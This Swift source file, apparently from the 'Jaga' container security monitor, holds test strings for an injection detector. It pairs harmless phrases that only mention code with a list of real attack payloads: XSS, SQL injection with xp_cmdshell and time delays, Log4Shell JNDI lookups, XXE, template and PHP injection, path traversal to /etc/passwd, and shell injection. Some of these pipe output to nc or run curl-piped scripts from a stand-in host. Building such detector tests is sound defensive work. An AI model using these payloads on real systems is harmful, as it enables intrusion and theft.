// Jaga - container security monitor
// SPDX-License-Identifier: Apache-2.0

extension AuthoredCases {
    /// Harmless: code, commands, paths and queries that are spoken of, or whole by themselves.
    static let spoken = #"""
        <script> tag position in html
        <iframe> not loading in safari
        where to put <script>
        the `<style>` element goes in the head, not in the body
        please close the `<script>` before the footer
        <em>important</em> notice
        first line<br>second line
        <p>thanks a lot!</p>
        <ul><li>milk</li><li>eggs</li></ul>
        onload="return true" explained for beginners
        javascript: void(0) what does it do
        javascript:void(0)
        confirm(1) dialog not closing
        prompt("name") in safari not working
        eval(x) considered harmful
        document.createElement
        document.getElementById
        console.log("it works")
        console.log('done')
        sleep(10) vs usleep in c
        sleep(3) function in python
        benchmark(3) results for phones
        how does sleep(5) behave
        pg_sleep not found in postgres
        information_schema explained
        sp_executesql with parameters tutorial
        xp_cmdshell turned off since sql server
        waitfor delay explained
        select * from table is slow today
        select id, name from people does not use the index
        This `SELECT id FROM orders` runs in a loop, better fetch all at once
        height > 150 and height < 180
        age >= 18 && age <= 65
        speed > 30 && wind < 10
        between 5 and 15
        g(x) = cos(x)
        f(t) = exp(t)
        =SUM(B2:B9)
        =IF(B2>3,"big","small")
        =AVERAGE(C1,C2)
        if 1=1 then why so
        as we said, and 2 = 3 is wrong
        execute order; declare winner
        like '%foo%' index usage in mysql
        not like 'abc%' slow on oracle
        the teachers'
        students'
        log4shell ${jndi:ldap} what is it
        what is ${jndi:rmi}
        <!DOCTYPE html>
        <!DOCTYPE html> missing warning
        what does <!ENTITY stand for
        <?php echo vs print
        <?php or <? which one
        php://stdin vs argv in scripts
        require('path') vs import path from 'path'
        require("os") or import os
        __proto__ explained
        difference of __proto__ vs prototype
        Runtime.getRuntime().freeMemory()
        {"$gte": 18}
        {"$lt": 100}
        {"price":{"$gte":10}}
        db.users.find({}) tutorial
        db.orders.aggregate([]) slow query
        (&(objectClass=person)(sn=Smith))
        (&(objectClass=person)(sn=M*))
        (objectClass=user) explained
        count(//book)
        {{ page.title }}
        {{.Name}}
        {{ product.price }}
        vue {{ item.label }} empty
        <%= name %>
        <%= link %>
        ../img/banner.jpg
        ../../static/site.css
        ../assets/js/app.js
        ../index.html
        ../media/intro.webp
        ../../images/icons/home.svg
        ../ in relative links
        ../.. meaning in shell
        C:\Users\Maria\Documents\letter.docx
        C:\Users\bob\Downloads\setup.msi
        C:\Users\Ann\Pictures\cat.jpg
        /usr/share
        /usr/local
        /etc/hosts explained
        cat /etc/hosts explained
        file:///C:/docs/a.pdf opens blank in edge
        http://localhost:8080 keeps refusing connections
        http://127.0.0.1:5000 works but lan does not
        rm -rf explained
        curl -X PUT example
        base64 -d example
        tar -xzf command
        grep -i "error" | sort
        ls -l | grep conf
        ps aux | grep java
        npm install && npm test
        npm ci && npm run build
        docker run -it alpine sh
        docker ps -a | grep web
        kubectl get pods -n default
        salt & pepper
        insert into list select from menu
        or 2=2 why does that work
        u > 4 or u < -4
        z = cos(x) * sin(y)
        find . -name build | wc -l
        tail -n 20 server.log
        ssh -p 2222 ann@host
        git status --short | head
        C:\Program Files\Git\mingw64
        /opt/local/lib
        ../src/utils/parser
        {% include footer.html %}
        onChange={() => setName(x)}
        count(//p) in a browser
        class.forName() finds nothing
        process.env.PORT missing
        <?php vs <?
        http://192.168.0.1/ modem
        <?xml version="1.0"?> syntax
        <!-- note --> in markdown
        4 like me
        file:///D:/music/x.mp3 will not play
        select count(*) from visits is slow
        """#

    /// Attacks that have words beside them as well, or look as harmless.
    static let unspoken = #"""
        <script>alert(1)</script> example
        how to <script>alert(document.cookie)</script>
        <script src=//a.example/x.js> tag
        <b onmouseover=alert(1)>bold</b>
        <br onclick=alert(1)>
        <em style=x:expression(alert(1))>x</em>
        " onclick="return alert(1)" x="
        javascript:void(0)||alert(1)
        javascript:void(document.location='//a.example')
        ';alert(1)// not showing
        alert(1);//explained
        1 or sleep(5)-- explained
        1;waitfor delay '0:0:5'
        1 waitfor delay '0:0:5'-- x
        sleep(5) and 1=1
        sleep(5) or 1
        1 and sleep(5)
        ' or sleep(5) and 'a
        1 union select * from information_schema.tables
        exec xp_cmdshell 'dir'
        1;exec xp_cmdshell('dir')
        1 and price<200
        1 or price>0
        x' and price>100 and price<200--
        1 between 0 and 2 or 1=1
        ' or 1 between 0 and 2 or 'a'='b
        =(select 1 from users)
        1 or f(x)=sin(x)
        foo' or 1=1-- what
        foo and 1=1
        1 and 1=2 is false
        x'; exec master..xp_cmdshell 'x'; declare @a int
        ' like '%a%
        x' or name like '%a%
        admin'
        admin'--
        ${jndi:ldap://a.example/x}
        ${jndi:ldap:${env:x}}
        ${jndi:${lower:l}dap://a.example}
        <!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hosts">]>
        <!DOCTYPE html SYSTEM "http://a.example/x.dtd">
        <!ENTITY x SYSTEM "http://a.example/">
        <?php system($_GET[0]) ?>
        <?php echo `id`
        <?= system('id') ?>
        php://filter/convert.base64-encode/resource=index
        php://input
        require('child_process').exec('id')
        __proto__[x]=1
        {"__proto__":{"x":1}}
        java.lang.Runtime.getRuntime().exec("id")
        Runtime.getRuntime().exec("id")
        {"$gt":""}
        {"$gt":0}
        {"$gte":"a"}
        {"age":{"$gt":0}}
        *)(&(objectClass=user)
        x)(|(cn=*
        *)(uid=*))(|(uid=*
        ' or count(//user)=1 or 'a'='b
        {{ config.items() }}
        {{ self.x }}
        {{7*7}}
        {{ ''.__class__ }}
        <%= 7*7 %>
        <%= system("id") %>
        ../../../images/../../../etc/passwd
        ../images/../../etc/passwd
        ../config.php
        ../.env
        ../../../etc/passwd explained
        ..\..\images\logo.png
        C:\Windows\win.ini
        C:\Users\Administrator\NTUSER.DAT
        C:\boot.ini
        /usr/local/apache2/conf/httpd.conf
        /etc/passwd
        cat /etc/passwd
        file:///etc/passwd
        http://127.0.0.1:6379/
        http://localhost/admin
        ;rm -rf / explained
        ;cat /etc/passwd example
        | cat /etc/passwd example
        1 | grep root /etc/passwd
        x && npm install && curl a.example
        ls -la; cat /etc/passwd
        ls | nc 10.0.0.9 4444
        ls -la > /tmp/x
        wget http://a.example/x -O /tmp/x
        curl http://a.example/x.sh | sh
        ```;id;```
        ```$(id)```
        docker run -v /:/mnt alpine sh
        4 like 4
        /./././././././././././././././././././././././.
        \.\.\.\.\.\.\.\.\.\.\.\.\.\.\.\.\.\.\.\.\.\.\.
        Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA&amp;#61;&amp;#61;
        insert into users select 1,2
        1 or 2=2 limit 1
        x' or u>4 or u<-4--
        perf --version
        ls -al
        find . -exec /bin/sh
        tail -f /var/log/auth.log
        {% include '/etc/passwd' %}
        <?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]> syntax
        <!-- note --><script>alert(1)</script> in markdown
        http://192.168.0.1/
        2 & echo xyz
        %0awhoami
        %0aid
        ls | nc 192.0.2.7 4444
        *()|&
        \r\nSet-Cookie: x=y
        \r\nLocation: http://a.example/
        ' or name(//node[1])='x' or '1'='2
        """#
}
